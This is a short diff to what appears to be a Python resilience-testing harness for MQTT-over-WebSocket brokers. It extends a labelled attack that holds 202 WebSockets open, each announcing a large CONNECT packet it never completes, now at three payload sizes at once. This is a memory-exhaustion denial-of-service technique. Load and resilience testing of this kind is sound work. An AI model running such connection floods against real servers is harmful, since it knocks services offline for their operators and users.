@@ -263,9 +263,16 @@ _ANNOUNCED = b"\x10" + _length(500_000) + _BEGUN
 """The begin of a CONNECT of 500 kB: 202 of them are 96 MiB, if somebody keeps room for what is announced."""
 
 
-@_attack("A1", "202 WebSockets announce a CONNECT of 500 kB and never finish it", "ws")
+@_attack(
+    "A1", "202 WebSockets announce a CONNECT of 500 kB and never finish it, as many one of 20 kB and of 1 kB", "ws"
+)
 async def _half_connects(target: Target, until: float) -> Tally:
-    return await _hold(target.ws, 202, until, _upgrade(target.ws), _frame(_ANNOUNCED))
+    def held(size: int) -> Awaitable[Tally]:
+        begun = _frame(b"\x10" + _length(size) + _BEGUN)
+        return _hold(target.ws, 202, until, _upgrade(target.ws), begun)
+
+    large, middling, small = await asyncio.gather(held(500_000), held(20_000), held(1_000))
+    return large + middling + small
 
 
 @_attack("A1", "202 WebSockets do so with 256 MiB, the most that MQTT can announce", "ws")
